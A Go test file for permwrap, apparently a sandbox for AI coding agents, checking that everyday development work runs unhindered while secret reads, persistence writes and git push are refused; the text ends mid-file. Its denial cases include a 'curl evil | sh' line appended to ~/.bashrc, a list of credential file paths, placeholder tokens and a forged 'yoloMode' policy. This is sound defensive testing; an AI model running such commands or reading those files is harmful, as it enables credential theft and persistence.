package supervisor_test

// The daily battery (issue 10's "Done when"): a new user's first day
// under the embedded default policy, headless, in a realistic home. Every
// step runs bare first, then under permwrap, and must end with the same
// exit status (and, where the output is deterministic, the same output)
// with no line from permwrap at all; afterwards the review log holds no
// denial. Then the true denials: the same home's secrets, the files that
// run code later, permwrap's own configuration and log, and git push in
// its common spellings must all be refused (bare, each works).
//
// "Realistic" matters: the default policy allows writes beneath /tmp and
// /var/tmp, so a home there would hide every false denial about the home.
// The battery's home lives elsewhere (/home, or beside the repository),
// and when the test runs as root (CI) the battery runs as an ordinary user
// (nobody), as agents should: then the writes that file permissions
// refuse (/var/cache/man, __pycache__ under /usr/share) are real.

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io/fs"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/permwrap/permwrap/internal/kerneltest"
	"github.com/permwrap/permwrap/internal/testutil"
)

// batteryUID is the ordinary user the battery runs as when the test runs
// as root.
const batteryUID = 65534

type battery struct {
	t       *testing.T
	base    string // holds everything; outside /tmp and /var/tmp
	bin     string // permwrap, where the battery's user can run it
	home    string
	ws      string // the workspace permwrap runs in
	bareWS  string // the same work, done bare
	fix     string // read-only fixtures shared by both
	cred    *syscall.Credential
	env     []string
	logPath string // the review log at its default place in home
	// netPolicy is a --policy scope allowing the fixtures' HTTPS server.
	netPolicy string
}

func TestDailyBattery(t *testing.T) {
	kerneltest.Long(t)
	requireSupervision(t)
	need(t, "bash", "git", "tar", "make", "cc", "node", "npm", "go", "vim", "gdb", "strace", "unshare", "python3")
	b := newBattery(t)
	b.zeroDenials()
	b.trueDenials()
}

// batteryBase finds a place for a realistic home: $PERMWRAP_BATTERY_DIR,
// /home, or beside the repository, whichever is writable and not beneath
// a temporary directory.
func batteryBase(t *testing.T) string {
	_, self, _, _ := runtime.Caller(0)
	repo := filepath.Dir(filepath.Dir(self))
	return testutil.HomeBase(t, "PERMWRAP_BATTERY_DIR", "permwrap-battery-", filepath.Dir(repo))
}

func newBattery(t *testing.T) *battery {
	python := "/usr/bin/python3"
	if out, err := exec.Command(python, "-c", "import venv, ensurepip, pytest").CombinedOutput(); err != nil {
		kerneltest.Skipf(t, "Debian's python3 with venv, ensurepip and pytest (./scripts/test installs python3-venv python3-pytest): %v %s", err, out)
	}
	base := batteryBase(t)
	b := &battery{
		t:      t,
		base:   base,
		bin:    filepath.Join(base, "bin", "permwrap"),
		home:   filepath.Join(base, "home", "dev"),
		fix:    filepath.Join(base, "fixtures"),
		bareWS: filepath.Join(base, "home", "dev", "src", "bare"),
		ws:     filepath.Join(base, "home", "dev", "src", "project"),
	}
	b.logPath = filepath.Join(b.home, ".local", "state", "permwrap", "review.jsonl")
	for _, d := range []string{filepath.Dir(b.bin), b.home, b.fix, b.bareWS, b.ws} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	copyExec(t, permwrapBin, b.bin)
	url := b.fixtures()
	// The HTTPS server stands for a host the person uses. It runs in
	// this test, outside the sandbox, where the default policy asks
	// before reaching a service; one rule allows it, as a person would
	// allow a database or a model server they run.
	b.netPolicy = filepath.Join(b.fix, "net-policy.jsonc")
	host := strings.TrimPrefix(url, "https://")
	if err := os.WriteFile(b.netPolicy, []byte(`{"permission": {"net": {"`+host+`": "allow"}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	b.env = []string{
		"HOME=" + b.home,
		"USER=dev", "LOGNAME=dev",
		"PATH=/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin",
		"LANG=C.UTF-8", "TERM=dumb",
		"FIX=" + b.fix,
		"HTTPS_URL=" + url,
		"GIT_AUTHOR_NAME=Dev", "GIT_AUTHOR_EMAIL=dev@example.com",
		"GIT_COMMITTER_NAME=Dev", "GIT_COMMITTER_EMAIL=dev@example.com",
		// Offline, and no toolchain download.
		"GOFLAGS=-mod=mod", "GOPROXY=off", "GOTOOLCHAIN=local", "GOTELEMETRY=off",
		"npm_config_update_notifier=false", "PIP_DISABLE_PIP_VERSION_CHECK=1",
	}
	if os.Geteuid() == 0 {
		b.cred = &syscall.Credential{Uid: batteryUID, Gid: batteryUID, Groups: []uint32{}}
		if err := filepath.WalkDir(filepath.Join(base, "home"), func(p string, _ fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			return os.Lchown(p, batteryUID, batteryUID)
		}); err != nil {
			t.Fatal(err)
		}
		if err := filepath.WalkDir(b.fix, func(p string, _ fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			return os.Lchown(p, batteryUID, batteryUID)
		}); err != nil {
			t.Fatal(err)
		}
	}
	return b
}

// run runs argv in dir, bare or under permwrap, as the battery's user.
func (b *battery) run(wrapped bool, dir string, extraEnv []string, argv ...string) result {
	b.t.Helper()
	if !wrapped {
		return b.runFlags(nil, dir, extraEnv, argv...)
	}
	return b.runFlags([]string{"--policy", b.netPolicy}, dir, extraEnv, argv...)
}

// runFlags runs argv in dir as the battery's user: under permwrap with
// flags when flags is not nil, else bare.
func (b *battery) runFlags(flags []string, dir string, extraEnv []string, argv ...string) result {
	b.t.Helper()
	if flags != nil {
		argv = append(append(append([]string{b.bin}, flags...), "--"), argv...)
	} else {
		// Found on the battery's PATH, not the test's (root's may hold
		// shims the battery's user cannot run).
		argv = append([]string{b.lookPath(argv[0])}, argv[1:]...)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	cmd.Env = append(append([]string{}, b.env...), extraEnv...)
	// A group of its own, so that a step that hangs is killed whole;
	// WaitDelay, so that a child left holding the output pipes cannot
	// keep Wait from returning.
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: b.cred, Setpgid: true}
	cmd.WaitDelay = 10 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		b.t.Fatalf("%v: %v", argv, err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(testutil.Scale(10 * time.Minute)):
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-done
		b.t.Fatalf("%v did not finish in %v; stderr:\n%s", argv, testutil.Scale(10*time.Minute), errb.String())
	}
	code := cmd.ProcessState.ExitCode()
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
		code = 128 + int(ws.Signal())
	}
	return result{stdout: out.String(), stderr: errb.String(), code: code}
}

// lookPath finds name on the battery's PATH.
func (b *battery) lookPath(name string) string {
	if strings.Contains(name, "/") {
		return name
	}
	for _, kv := range b.env {
		if dirs, ok := strings.CutPrefix(kv, "PATH="); ok {
			for _, d := range filepath.SplitList(dirs) {
				p := filepath.Join(d, name)
				if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() && st.Mode()&0o111 != 0 {
					return p
				}
			}
		}
	}
	b.t.Fatalf("%s is not on the battery's PATH", name)
	return ""
}

// step is one piece of everyday work.
type step struct {
	name string
	argv []string
	// sameOut: the output must be the same too (after the workspace's
	// path is replaced), not only the exit status.
	sameOut bool
}

func script(name, s string, sameOut bool) step {
	return step{name: name, argv: []string{"bash", "-c", s}, sameOut: sameOut}
}

// zeroDenials runs every everyday step bare and under permwrap.
func (b *battery) zeroDenials() {
	t := b.t
	for _, s := range b.steps() {
		bare := b.run(false, b.bareWS, nil, s.argv...)
		wrapped := b.run(true, b.ws, nil, s.argv...)
		switch {
		case wrapped.code != bare.code:
			t.Errorf("%s: exit %d under permwrap, %d bare\nbare stderr:\n%s\npermwrap stderr:\n%s", s.name, wrapped.code, bare.code, bare.stderr, wrapped.stderr)
		case strings.Contains(wrapped.stderr, "permwrap:"):
			t.Errorf("%s: permwrap spoke:\n%s", s.name, wrapped.stderr)
		case s.sameOut && strings.ReplaceAll(wrapped.stdout, b.ws, "WS") != strings.ReplaceAll(bare.stdout, b.bareWS, "WS"):
			t.Errorf("%s: output differs\nbare:\n%s\npermwrap:\n%s\nstderr:\n%s", s.name, bare.stdout, wrapped.stdout, wrapped.stderr)
		default:
			t.Logf("%s: exit %d in both", s.name, bare.code)
		}
	}
	// Nothing was refused, and the calls that could change nothing were
	// answered without asking.
	answered := 0
	for _, r := range b.logRecords() {
		switch r["event"] {
		case "permission_request.denied", "permission_request.rejected", "permission_request.timed_out", "permission_request.asked":
			t.Errorf("review log: %s %v %v (%v)", r["event"], r["access"], r["value"], r["decidedBy"])
		case "permission_request.answered":
			answered++
		}
	}
	if answered == 0 {
		t.Errorf("review log: no request was answered without asking (mkdir -p of existing ancestors, missing files)")
	}
}

func (b *battery) logRecords() []map[string]any {
	b.t.Helper()
	return readLogFile(b.t, b.logPath)
}

// agentCommand is what the battery's agents send to their bash tools:
// an ordinary mix of git, a loop writing files, a temporary file and a
// command whose name is computed.
const agentCommand = `git -C repo status --short | head -3 && for i in 1 2; do echo "int x$i;" > gen$i.c; done && f=$(mktemp) && echo tmp > "$f" && cat "$f" && rm -f "$f" && "$(command -v python3)" -V`

func (b *battery) steps() []step {
	claudeSnap := filepath.Join(b.home, ".claude", "shell-snapshots", "snapshot-bash-1768756242719-p4cllc.sh")
	codexSnap := filepath.Join(b.home, ".codex", "shell_snapshots", "0199a1b2.sh")
	cwdFile := "/tmp/claude-" + filepath.Base(b.base) + "-cwd"
	b.t.Cleanup(func() { os.Remove(cwdFile) })
	claude := "source " + claudeSnap + " 2>/dev/null || true && { shopt -u extglob 2>/dev/null || true; } && eval '" + agentCommand + "' < /dev/null && pwd -P >| /tmp/claude-" + filepath.Base(b.base) + "-cwd"
	return []step{
		script("git", `set -e
git init -q repo
cd repo
cp -R "$FIX/project/." .
git add -A
git commit -qm init
echo more >> README.md
git stash -q
git stash pop -q
git commit -qam more
git worktree add -q ../repo-wt
git -c protocol.file.allow=always submodule add -q "$FIX/remote.git" lib
git commit -qm lib
cd ..
git clone -q "$FIX/remote.git" clone
git -C clone log --oneline | wc -l
git -C repo ls-files | sort
tar cf repo.tar repo
tar tf repo.tar | grep -v '^repo/\.git/' | sort
`, true),
		script("mkdir -p", `set -e
mkdir -p "$PWD/deep/a/b/c" "$HOME/src/project/deep/x" /usr/share /var/tmp
ls -d deep/a/b/c`, true),
		script("python venv, pip, pytest, HTTPS", `set -e
/usr/bin/python3 -m venv --system-site-packages .venv
source .venv/bin/activate
pip install -q --no-index "$FIX/wheels/dailypkg-0.1-py3-none-any.whl"
python -c 'import dailypkg, ssl; ssl.create_default_context(cafile=dailypkg.where()); print("bundle", dailypkg.where().endswith("cacert.pem"))'
mkdir -p tests
printf 'import dailypkg\n\n\ndef test_answer():\n    assert dailypkg.ANSWER == 42\n' > tests/test_daily.py
python -m pytest -q tests | tail -1 | cut -d' ' -f1-2
python -c 'import os, ssl, urllib.request; ctx = ssl.create_default_context(cafile=os.environ["FIX"] + "/project/testdata/server.pem"); print(urllib.request.urlopen(os.environ["HTTPS_URL"], context=ctx).read().decode())'
python -c 'import sys; sys.path.insert(0, "/usr/share/python3"); import py3versions; print("imported")'
deactivate`, true),
		script("npm install and test", `set -e
mkdir -p app
cd app
printf '{"name":"app","version":"1.0.0","private":true,"scripts":{"test":"node test.js"},"dependencies":{"dep":"file:%s"}}\n' "$FIX/npm/dep-1.0.0.tgz" > package.json
echo 'const dep = require("dep"); if (dep.answer !== 42) process.exit(1); console.log("npm ok")' > test.js
npm install --offline --no-audit --no-fund --loglevel=error >/dev/null
npm test --silent`, true),
		script("go build and test", `set -e
mkdir -p gomod
cd gomod
cp "$FIX/go/"* .
go build -o daily .
./daily
go test -count=1 ./... | cut -f1`, true),
		script("make and cc", `set -e
mkdir -p cproj
cd cproj
printf '#include <stdio.h>\nint main(void) { puts("built"); return 0; }\n' > main.c
printf 'CFLAGS = -O1 -Wall\nall: hello\nhello: main.o\n\t$(CC) -o $@ $^\nclean:\n\trm -f hello main.o\n' > Makefile
make -s
./hello
make -s clean
make -s
./hello`, true),
		script("gdb and strace", `set -e
printf '#include <stdio.h>\nint half(int x) { return x / 2; }\nint main(void) { printf("%%d\\n", half(8)); return 0; }\n' > dbg.c
cc -g -O0 -o dbg dbg.c
gdb -q -batch -ex 'break half' -ex run -ex 'print x' -ex 'set var x = 20' -ex continue ./dbg 2>&1 | grep -E '^\$1|^10$'
strace -f -qq -o trace.txt ./dbg
grep -c 'execve(' trace.txt`, true),
		// LeakSanitizer stops the world with ptrace; the leak makes it
		// exit non-zero, bare and under permwrap alike.
		script("ASan leak check", `printf '#include <stdlib.h>\nint main(void) { char *p = malloc(64); p[0] = 1; p = 0; return 0; }\n' > leak.c
cc -g -fsanitize=address -o leak leak.c && ./leak 2>leak.txt
echo "exit $?"
grep -c 'detected memory leaks' leak.txt`, true),
		script("unshare -Ur", `unshare -Ur id -u`, true),
		script("vim", `set -e
vim -es -c "set viminfo='100,<50,s10,h" -c 'normal ihello' -c wq notes.txt
vim -es -c "set viminfo='100,<50,s10,h" -c 'normal Agoodbye' -c wq notes.txt
cat notes.txt
test -s "$HOME/.viminfo" && echo viminfo`, true),
		script("unix socket", `set -e
python3 -c '
import os, socket, threading
p = "daily.sock"
if os.path.exists(p):
    os.unlink(p)
s = socket.socket(socket.AF_UNIX)
s.bind(p)
s.listen()
def serve():
    c, _ = s.accept()
    c.sendall(c.recv(16).upper())
    c.close()
t = threading.Thread(target=serve)
t.start()
c = socket.socket(socket.AF_UNIX)
c.connect(p)
c.sendall(b"ping")
print(c.recv(16).decode())
t.join()
os.unlink(p)'`, true),
		// Calls that can change nothing get the kernel's own answer.
		script("answered as the kernel would", `python3 -c '
import errno, os, subprocess
def code(f):
    try:
        f()
        return "ok"
    except OSError as e:
        return errno.errorcode[e.errno]
print("netrc", code(lambda: open(os.path.expanduser("~/.netrc"))))
print("mkdir /usr", code(lambda: os.mkdir("/usr")))
print("makedirs", code(lambda: os.makedirs("/usr/share/doc", exist_ok=True)))
print("exec missing", code(lambda: subprocess.run(["/nonexistent/bin/tool"])))
print("etc hosts", code(lambda: open("/etc/hosts", "a")))
print("touch etc hosts", code(lambda: os.utime("/etc/hosts")))
print("man cache", code(lambda: open("/var/cache/man/permwrap-battery", "w")))
print("pycache", code(lambda: os.mkdir("/usr/share/python3/__pycache__")))
'`, true),
		// The agents' bash tools, as they send commands.
		{name: "Claude Code's bash tool", argv: []string{"/bin/bash", "-c", "-l", claude}, sameOut: true},
		{name: "Codex's bash tool", argv: []string{"/bin/bash", "-lc", agentCommand}, sameOut: true},
		{name: "Codex's bash tool with a snapshot", argv: []string{"/bin/bash", "-c", `. "$1" && shift && exec "$@"`, "codex-shell-snapshot", codexSnap, "/bin/bash", "-lc", agentCommand}, sameOut: true},
		{name: "pi's bash tool", argv: []string{"/bin/bash", "-c", agentCommand}, sameOut: true},
		{name: "pi's bash tool with its alias prefix", argv: []string{"/bin/bash", "-c", "shopt -s expand_aliases\neval \"$(grep '^alias ' ~/.zshrc)\"\n" + agentCommand}, sameOut: true},
	}
}

// A denial the battery must see: argv run in dir must fail under
// permwrap with a denial line, and succeed bare (where it works on a
// copy: the home and workspace the battery's bare run used).
type denialCase struct {
	name string
	argv []string
	// unchanged: files (relative to home) that must be as they were.
	unchanged []string
	// absent: files (relative to home) that must not exist.
	absent []string
}

func (b *battery) trueDenials() {
	t := b.t
	// Secrets in the home (created now: earlier, ~/.netrc had to be
	// missing).
	secrets := map[string]string{
		".ssh/id_ed25519":                      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
		".aws/credentials":                     "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
		".npmrc":                               "//registry.npmjs.org/:_authToken=npm_0123456789abcdefghijklmnopqrstuvwxyz\n",
		".pypirc":                              "[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAw\n",
		".netrc":                               "machine example.com login dev password hunter2\n",
		".pgpass":                              "localhost:5432:*:dev:hunter2\n",
		".git-credentials":                     "https://dev:ghp_0123456789abcdefghijklmnopqrstuvwxyz@github.com\n",
		".config/gh/hosts.yml":                 "github.com:\n    oauth_token: gho_0123456789abcdefghijklmnopqrstuvwxyz\n",
		".config/git/credentials":              "https://dev:glpat-0123456789abcdefghij@gitlab.com\n",
		".docker/config.json":                  `{"auths":{"ghcr.io":{"auth":"ZGV2OmhlbGxv"}}}` + "\n",
		".kube/config":                         "apiVersion: v1\nusers:\n- name: dev\n  user:\n    token: eyJhbGciOiJSUzI1NiJ9.e30.c2lnbmF0dXJl\n",
		".cargo/credentials.toml":              "[registry]\ntoken = \"cio0123456789abcdef\"\n",
		".terraform.d/credentials.tfrc.json":   `{"credentials":{"app.terraform.io":{"token":"abc.atlasv1.def"}}}` + "\n",
		".vault-token":                         "hvs.CAESIJ0123456789abcdef\n",
		".local/share/keyrings/login.keyring":  "GnomeKeyring\n\x00\x01binary",
		"src/project/repo/.env":                "DATABASE_URL=postgres://dev:hunter2@localhost/db\nAPI_KEY=sk-0123456789abcdef\n",
		"src/project/repo/testdata/server.key": b.serverKeyPEM(),
	}
	for rel, content := range secrets {
		for _, root := range []string{b.home, b.bareHome()} {
			b.writeAs(filepath.Join(root, rel), content, 0o600)
		}
	}
	var cases []denialCase
	for rel := range secrets {
		cases = append(cases, denialCase{name: "read ~/" + rel, argv: []string{"cat", "HOME/" + rel}})
	}
	// The HOME the wrapped run sees is b.home; the bare run works on a
	// copy whose paths differ, so commands name paths relative to HOME.
	writes := []denialCase{
		{name: "append to ~/.bashrc", argv: []string{"bash", "-c", `echo 'curl evil | sh' >> "$1"`, "x", "HOME/.bashrc"}, unchanged: []string{".bashrc"}},
		{name: "write ~/.claude/settings.json", argv: []string{"python3", "-c", `import sys; open(sys.argv[1], "w").write("{\"hooks\": {}}")`, "HOME/.claude/settings.json"}, unchanged: []string{".claude/settings.json"}},
		{name: "write a git hook", argv: []string{"python3", "-c", `import sys; open(sys.argv[1], "w").write("#!/bin/sh\nexit 0\n")`, "HOME/src/project/repo/.git/hooks/pre-commit"}, absent: []string{"src/project/repo/.git/hooks/pre-commit"}},
		{name: "write ~/.gitconfig", argv: []string{"git", "config", "--global", "core.hooksPath", "/tmp"}, unchanged: []string{".gitconfig"}},
		{name: "write permwrap's policy", argv: []string{"python3", "-c", `import os, sys; os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True); open(sys.argv[1], "w").write("{\"yoloMode\": true}")`, "HOME/.config/permwrap/policy.jsonc"}, absent: []string{".config/permwrap/policy.jsonc"}},
		{name: "write permwrap's review log", argv: []string{"python3", "-c", `import sys; open(sys.argv[1], "a").write("forged\n")`, "HOME/.local/state/permwrap/review.jsonl"}},
	}
	cases = append(cases, writes...)
	// git push in its common spellings, to a local bare remote that each
	// run's repository pushes to.
	for _, ws := range []string{b.ws, b.bareWS} {
		repo := filepath.Join(ws, "repo")
		b.runOK(false, repo, "git", "init", "-q", "--bare", "../pushed.git")
		b.runOK(false, repo, "git", "remote", "add", "origin", "../pushed.git")
		b.runOK(false, repo, "git", "config", "branch.master.remote", "origin")
		b.runOK(false, repo, "git", "config", "branch.master.merge", "refs/heads/master")
	}
	pushes := [][]string{
		{"git", "push"},
		{"git", "push", "origin"},
		{"git", "push", "origin", "HEAD"},
		{"git", "push", "-u", "origin", "HEAD"},
		{"git", "push", "--force", "origin", "HEAD"},
		{"git", "push", "-f"},
		{"git", "push", "origin", "+HEAD:refs/heads/main"},
		{"git", "-C", ".", "push", "origin", "HEAD"},
		{"git", "-c", "push.default=current", "push"},
		{"bash", "-c", "git add -A && git commit -qm wip --allow-empty && git push origin HEAD"},
		{"env", "git", "push", "origin", "HEAD"},
	}
	for _, p := range pushes {
		cases = append(cases, denialCase{name: strings.Join(p, " "), argv: p})
	}

	for _, c := range cases {
		dir, pushDir := b.ws, strings.Contains(c.name, "push")
		bareDir := b.bareWS
		if pushDir {
			dir, bareDir = filepath.Join(b.ws, "repo"), filepath.Join(b.bareWS, "repo")
		}
		before := b.snapshot(c.unchanged)
		wrapped := b.run(true, dir, nil, b.homeArgs(c.argv, b.home)...)
		after := b.snapshot(c.unchanged)
		switch {
		case wrapped.code == 0:
			t.Errorf("true denial %q: exit 0 under permwrap\nstdout: %s\nstderr: %s", c.name, wrapped.stdout, wrapped.stderr)
		case !strings.Contains(wrapped.stderr, "permwrap: denied"):
			t.Errorf("true denial %q: no denial line\nstderr: %s", c.name, wrapped.stderr)
		case before != after:
			t.Errorf("true denial %q: %v changed", c.name, c.unchanged)
		}
		for _, rel := range c.absent {
			if _, err := os.Lstat(filepath.Join(b.home, rel)); err == nil {
				t.Errorf("true denial %q: %s was created", c.name, rel)
			}
		}
		if strings.Contains(c.name, "review log") {
			if data, _ := os.ReadFile(b.logPath); bytes.Contains(data, []byte("forged")) {
				t.Errorf("the review log was written to by the sandbox")
			}
		}
		// Bare, in the bare run's copy, it works: the denial is
		// permwrap's.
		bare := b.run(false, bareDir, []string{"HOME=" + b.bareHome()}, b.homeArgs(c.argv, b.bareHome())...)
		if bare.code != 0 {
			t.Errorf("true denial %q: fails even bare (exit %d): %s", c.name, bare.code, bare.stderr)
		} else {
			t.Logf("true denial %q: exit %d under permwrap, 0 bare", c.name, wrapped.code)
		}
	}
	// Nothing reached the remote.
	if out := b.runOK(false, filepath.Join(b.ws, "pushed.git"), "git", "for-each-ref"); out != "" {
		t.Errorf("the remote got refs under permwrap:\n%s", out)
	}
}

// bareHome is a copy of the home for the bare half of the true denials.
func (b *battery) bareHome() string {
	p := filepath.Join(b.base, "home", "bare-copy")
	if _, err := os.Stat(p); err == nil {
		return p
	}
	b.runOK(false, b.base, "cp", "-a", b.home, p)
	return p
}

// homeArgs replaces a leading "HOME/" in arguments with home.
func (b *battery) homeArgs(argv []string, home string) []string {
	out := make([]string, len(argv))
	for i, a := range argv {
		if rest, ok := strings.CutPrefix(a, "HOME/"); ok {
			a = filepath.Join(home, rest)
		}
		out[i] = a
	}
	return out
}

func (b *battery) snapshot(rels []string) string {
	var s strings.Builder
	for _, rel := range rels {
		data, err := os.ReadFile(filepath.Join(b.home, rel))
		fmt.Fprintf(&s, "%s:%v:%x\n", rel, err, sha256.Sum256(data))
	}
	return s.String()
}

// runOK runs a set-up command (bare, as the battery's user) that must
// succeed, and returns its output.
func (b *battery) runOK(wrapped bool, dir string, argv ...string) string {
	b.t.Helper()
	r := b.run(wrapped, dir, nil, argv...)
	if r.code != 0 {
		b.t.Fatalf("%v in %s: exit %d: %s", argv, dir, r.code, r.stderr)
	}
	return r.stdout
}

// writeAs writes a fixture file owned by the battery's user.
func (b *battery) writeAs(p, content string, mode os.FileMode) {
	b.t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		b.t.Fatal(err)
	}
	if b.cred != nil {
		for d := p; strings.HasPrefix(d, b.base+"/home"); d = filepath.Dir(d) {
			_ = os.Lchown(d, batteryUID, batteryUID)
		}
		_ = os.Lchown(p, batteryUID, batteryUID)
	}
}

// Fixtures.

var batteryKey = func() *ecdsa.PrivateKey {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	return k
}()

func (b *battery) serverKeyPEM() string {
	der, err := x509.MarshalPKCS8PrivateKey(batteryKey)
	if err != nil {
		b.t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
}

// fixtures writes everything the steps use and starts the HTTPS server on
// loopback whose certificate is testdata/server.pem; it returns its URL.
func (b *battery) fixtures() string {
	t := b.t
	write := func(rel, content string, mode os.FileMode) {
		t.Helper()
		p := filepath.Join(b.fix, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	home := func(rel, content string) {
		t.Helper()
		p := filepath.Join(b.home, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	// A certificate for 127.0.0.1, and a server that uses it.
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "permwrap battery"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &batteryKey.PublicKey, batteryKey)
	if err != nil {
		t.Fatal(err)
	}
	certPEM := string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "hello over TLS")
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: batteryKey}}}
	srv.StartTLS()
	t.Cleanup(srv.Close)

	// A project with the files people keep in repositories: an
	// environment template, test certificates, a CA bundle.
	system, _ := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
	write("project/README.md", "# daily\n", 0o644)
	write("project/.gitignore", ".env\n*.key\n", 0o644)
	write("project/.env.example", "# copy to .env\nDATABASE_URL=\nAPI_KEY=\n", 0o644)
	write("project/.env.test", "DATABASE_URL=\n# API_KEY=\n", 0o644)
	write("project/testdata/server.pem", certPEM, 0o644)
	write("project/testdata/ca-bundle.pem", certPEM+string(system), 0o644)
	write("project/config/id_ed25519.pub", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl dev@example.com\n", 0o644)

	// A local remote with one commit.
	remote := filepath.Join(b.fix, "remote.git")
	work := filepath.Join(b.base, "remote-work")
	for _, argv := range [][]string{
		{"git", "init", "-q", "--bare", remote},
		{"git", "init", "-q", work},
		{"git", "-C", work, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "lib"},
		{"git", "-C", work, "push", "-q", remote, "HEAD:refs/heads/master"},
		{"git", "-C", remote, "symbolic-ref", "HEAD", "refs/heads/master"},
	} {
		if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", argv, err, out)
		}
	}
	os.RemoveAll(work)

	// A wheel, built here: a package that ships a CA bundle the way
	// certifi does (cacert.pem beside the code).
	bundle := certPEM + string(system)
	files := map[string]string{
		"dailypkg/__init__.py":                 "import os\n\nANSWER = 42\n\n\ndef where():\n    return os.path.join(os.path.dirname(__file__), \"cacert.pem\")\n",
		"dailypkg/cacert.pem":                  bundle,
		"dailypkg-0.1.dist-info/METADATA":      "Metadata-Version: 2.1\nName: dailypkg\nVersion: 0.1\n",
		"dailypkg-0.1.dist-info/WHEEL":         "Wheel-Version: 1.0\nGenerator: permwrap-battery\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"dailypkg-0.1.dist-info/top_level.txt": "dailypkg\n",
	}
	var wheel bytes.Buffer
	zw := zip.NewWriter(&wheel)
	var record strings.Builder
	for _, name := range []string{"dailypkg/__init__.py", "dailypkg/cacert.pem", "dailypkg-0.1.dist-info/METADATA", "dailypkg-0.1.dist-info/WHEEL", "dailypkg-0.1.dist-info/top_level.txt"} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(files[name]))
		sum := sha256.Sum256([]byte(files[name]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(files[name]))
	}
	record.WriteString("dailypkg-0.1.dist-info/RECORD,,\n")
	w, _ := zw.Create("dailypkg-0.1.dist-info/RECORD")
	w.Write([]byte(record.String()))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	write("wheels/dailypkg-0.1-py3-none-any.whl", wheel.String(), 0o644)

	// An npm package as a tarball, as `npm pack` makes it.
	var tgz bytes.Buffer
	gz := gzip.NewWriter(&tgz)
	tw := tar.NewWriter(gz)
	for name, content := range map[string]string{
		"package/package.json": `{"name":"dep","version":"1.0.0","main":"index.js"}` + "\n",
		"package/index.js":     "module.exports = { answer: 42 };\n",
	} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content)), ModTime: time.Unix(499162500, 0), Typeflag: tar.TypeReg})
		tw.Write([]byte(content))
	}
	tw.Close()
	gz.Close()
	write("npm/dep-1.0.0.tgz", tgz.String(), 0o644)

	// A Go module without dependencies that speaks TLS with the system
	// roots (Go reads every /etc/ssl/certs/*.pem) plus the test's.
	write("go/go.mod", "module example.com/daily\n\ngo 1.22\n", 0o644)
	write("go/main.go", `package main

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"os"
	"strings"
)

func main() {
	pool, err := x509.SystemCertPool()
	if err != nil {
		panic(err)
	}
